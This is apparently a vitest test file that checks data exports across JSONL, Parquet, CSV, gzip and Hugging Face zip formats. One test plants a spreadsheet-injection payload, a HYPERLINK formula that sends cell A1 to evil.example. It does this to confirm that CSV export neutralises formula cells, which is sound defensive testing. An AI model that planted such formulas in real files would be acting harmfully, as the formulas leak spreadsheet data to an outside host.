// The same export in every file type reads back as the same rows: Parquet and CSV through DuckDB,
// gzip through zlib, the Hugging Face dataset zip through `unzip`.
import { execFileSync } from "node:child_process";
import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { gunzipSync } from "node:zlib";
import { DuckDBInstance, type DuckDBConnection } from "@duckdb/node-api";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ExportOptionsInput, FileType } from "@/lib/exports/export-options";
import type { Column } from "@/lib/exports/formats/format";
import { pool } from "@/lib/db/prisma";
import { createExportFixture, createLargeExportProject, exportToBuffer } from "@/lib/testing/export-fixture";
import { fromCsv, fromParquet, jsonlRecords, type Record_ } from "@/lib/testing/export-read-back";
import { createTestProject } from "@/lib/testing/factories";

let projects: string[];
let folder: string;
let duck: { instance: DuckDBInstance; connection: DuckDBConnection };
let fileNumber = 0;

beforeAll(async () => {
  ({ projects } = await createExportFixture({ namespace: 1, prefix: "filetypes" }));
  folder = await fs.mkdtemp(path.join(os.tmpdir(), "preflab-file-types-"));
  const instance = await DuckDBInstance.create(":memory:");
  duck = { instance, connection: await instance.connect() };
});

afterAll(async () => {
  duck.connection.closeSync();
  duck.instance.closeSync();
  await fs.rm(folder, { recursive: true, force: true });
});

async function exportAs(fileType: FileType, input: Omit<ExportOptionsInput, "fileType" | "projects"> & { projects?: string[] }) {
  const result = await exportToBuffer({ projects, ...input, fileType });
  const file = path.join(folder, `export-${++fileNumber}.${fileType === "hf-dataset" ? "zip" : fileType}`);
  await fs.writeFile(file, result.bytes);
  return { ...result, file };
}

async function query(sql: string): Promise<Record_[]> {
  return (await duck.connection.runAndReadAll(sql)).getRowObjectsJson() as Record_[];
}

const readParquet = (file: string) => query(`SELECT * FROM read_parquet('${file}')`);
const readCsv = (file: string) => query(`SELECT * FROM read_csv('${file}', header = true, all_varchar = true, delim = ',', quote = '"', escape = '"')`);

const CASES: [string, Omit<ExportOptionsInput, "fileType" | "projects">][] = [
  ["raw judgments (ints, bools, timestamps, nullable text)", { format: "judgments" }],
  ["rankings with agreement and a split column", { format: "ranking", testFraction: 0.5 }],
  ["TRL with per-judgment margins", { format: "trl", strengthPolicy: "margin" }],
  ["KTO labels by majority", { format: "kto", aggregation: "majority" }],
  ["conversational TRL (nested messages)", { format: "trl-conversational" }],
];

describe.each(CASES)("%s", (_name, input) => {
  let jsonl: Awaited<ReturnType<typeof exportAs>>;
  let records: Record_[];

  beforeAll(async () => {
    jsonl = await exportAs("jsonl", input);
    records = jsonlRecords(jsonl.bytes);
    expect(records.length).toBeGreaterThan(0);
    expect(Object.keys(records[0])).toEqual(jsonl.manifest.schema.map((column) => column.name));
  });

  it("reads back from Parquet as the JSONL rows, columns in the same order", async () => {
    const parquet = await exportAs("parquet", input);
    const rows = await readParquet(parquet.file);
    expect(Object.keys(rows[0])).toEqual(parquet.manifest.schema.map((column) => column.name));
    expect(rows.map((row) => fromParquet(parquet.manifest.schema, row))).toEqual(records);
    expect(parquet.manifest.counts).toEqual(jsonl.manifest.counts);
  });

  it("reads back from CSV as the JSONL rows, under a header of the column names", async () => {
    const csv = await exportAs("csv", input);
    expect(csv.bytes.toString("utf8").split("\n")[0]).toBe(csv.manifest.schema.map((column) => column.name).join(","));
    const rows = await readCsv(csv.file);
    expect(rows.map((row) => fromCsv(csv.manifest.schema, row))).toEqual(records);
  });

  it("gunzips from jsonl.gz to exactly the JSONL bytes", async () => {
    const gzip = await exportAs("jsonl.gz", input);
    expect(gzip.bytes.subarray(0, 2)).toEqual(Buffer.from([0x1f, 0x8b]));
    expect(Buffer.compare(gunzipSync(gzip.bytes), jsonl.bytes)).toBe(0);
  });
});

function zipEntries(file: string): string[] {
  return execFileSync("unzip", ["-Z1", file], { encoding: "utf8" }).split("\n").filter(Boolean);
}

function zipEntry(file: string, entry: string): Buffer {
  return execFileSync("unzip", ["-p", file, entry], { maxBuffer: 64 * 1024 * 1024 });
}

async function parquetInZip(zip: string, entry: string, schema: Column[]): Promise<Record_[]> {
  const file = path.join(folder, `entry-${++fileNumber}.parquet`);
  await fs.writeFile(file, zipEntry(zip, entry));
  return (await readParquet(file)).map((row) => fromParquet(schema, row));
}

const withoutSplit = ({ split: _split, ...record }: Record_) => record;

describe("the Hugging Face dataset zip", () => {
  it("holds a Parquet file per split, a dataset card naming them, and the manifest", async () => {
    const input = { format: "judgments", testFraction: 0.5 } as const;
    const jsonl = jsonlRecords((await exportAs("jsonl", input)).bytes);
    const dataset = await exportAs("hf-dataset", input);

    expect(zipEntries(dataset.file)).toEqual(["data/train-00000-of-00001.parquet", "data/test-00000-of-00001.parquet", "README.md", "manifest.json"]);
    const { schema } = dataset.manifest;
    expect(schema.map((column) => column.name)).not.toContain("split");
    const train = await parquetInZip(dataset.file, "data/train-00000-of-00001.parquet", schema);
    const test = await parquetInZip(dataset.file, "data/test-00000-of-00001.parquet", schema);
    expect(train).toEqual(jsonl.filter((record) => record.split === "train").map(withoutSplit));
    expect(test).toEqual(jsonl.filter((record) => record.split === "test").map(withoutSplit));
    expect([train.length, test.length]).toEqual([dataset.manifest.counts.rowsBySplit.train, dataset.manifest.counts.rowsBySplit.test]);
    expect(test.length).toBeGreaterThan(0);

    const card = zipEntry(dataset.file, "README.md").toString("utf8");
    expect(
      card.startsWith(
        "---\nconfigs:\n- config_name: default\n  data_files:\n  - split: train\n    path: data/train-*.parquet\n  - split: test\n    path: data/test-*.parquet\n---\n",
      ),
    ).toBe(true);

    const { file, ...withoutFile } = dataset.manifest;
    expect(file).toEqual({ bytes: dataset.bytes.length, sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect(JSON.parse(zipEntry(dataset.file, "manifest.json").toString("utf8"))).toEqual(withoutFile);
  });

  it("has only a train split when nothing is held out", async () => {
    const dataset = await exportAs("hf-dataset", { format: "trl" });
    expect(zipEntries(dataset.file)).toEqual(["data/train-00000-of-00001.parquet", "README.md", "manifest.json"]);
    const card = zipEntry(dataset.file, "README.md").toString("utf8");
    expect(card.startsWith("---\nconfigs:\n- config_name: default\n  data_files:\n  - split: train\n    path: data/train-*.parquet\n---\n")).toBe(true);
    const train = await parquetInZip(dataset.file, "data/train-00000-of-00001.parquet", dataset.manifest.schema);
    expect(train).toEqual(jsonlRecords((await exportAs("jsonl", { format: "trl" })).bytes));
  });
});

describe("an export with no rows", () => {
  it("is still a readable, empty Parquet file with the format's columns", async () => {
    const empty = await createTestProject();
    const parquet = await exportAs("parquet", { format: "trl", projects: [empty.slug], strengthPolicy: "margin" });
    expect(parquet.manifest.counts.rows).toBe(0);
    expect(await readParquet(parquet.file)).toEqual([]);
    const columns = await query(`SELECT column_name FROM (DESCRIBE SELECT * FROM read_parquet('${parquet.file}'))`);
    expect(columns.map((column) => column.column_name)).toEqual(["prompt", "chosen", "rejected", "margin"]);
  });

  it("is a dataset zip whose train split is an empty Parquet file", async () => {
    const empty = await createTestProject();
    const dataset = await exportAs("hf-dataset", { format: "kto", projects: [empty.slug] });
    expect(zipEntries(dataset.file)).toEqual(["data/train-00000-of-00001.parquet", "README.md", "manifest.json"]);
    expect(await parquetInZip(dataset.file, "data/train-00000-of-00001.parquet", dataset.manifest.schema)).toEqual([]);
  });
});

describe("a CSV export of imported and worker text that a spreadsheet would run as formulas", () => {
  it("escapes those text cells with a leading ', keeps numbers as numbers, and says so in the manifest", async () => {
    const { slug } = await createLargeExportProject({ slug: "filetypes-formulas", items: 2, textChars: 4 });
    const rationale = '=HYPERLINK("https://evil.example/?"&A1,"see why")';
    await pool().query("UPDATE judgments SET rationale = $2 WHERE project_id = (SELECT id FROM projects WHERE slug = $1)", [slug, rationale]);
    await pool().query("UPDATE items SET external_id = '+1 555 0100 ' || position WHERE project_id = (SELECT id FROM projects WHERE slug = $1)", [slug]);

    const judgments = await exportAs("csv", { format: "judgments", projects: [slug] });
    const rows = await readCsv(judgments.file);
    expect(rows.map((row) => [row.external_id, row.rationale, row.strength, row.time_spent_ms])).toEqual([
      ["'+1 555 0100 1", `'${rationale}`, "-2", "1000"],
      ["'+1 555 0100 2", `'${rationale}`, "-2", "1000"],
    ]);
    expect(judgments.manifest.csv).toEqual({ formulaPrefix: "'", escapedLeadingCharacters: ["=", "+", "-", "@", "\t", "\r"], escapedCells: 4 });
    // The other file types keep the text as it was given.
    expect(jsonlRecords((await exportAs("jsonl", { format: "judgments", projects: [slug] })).bytes).map((record) => record.rationale)).toEqual([
      rationale,
      rationale,
    ]);
    expect((await exportAs("jsonl", { format: "judgments", projects: [slug] })).manifest.csv).toBeUndefined();
  });
});
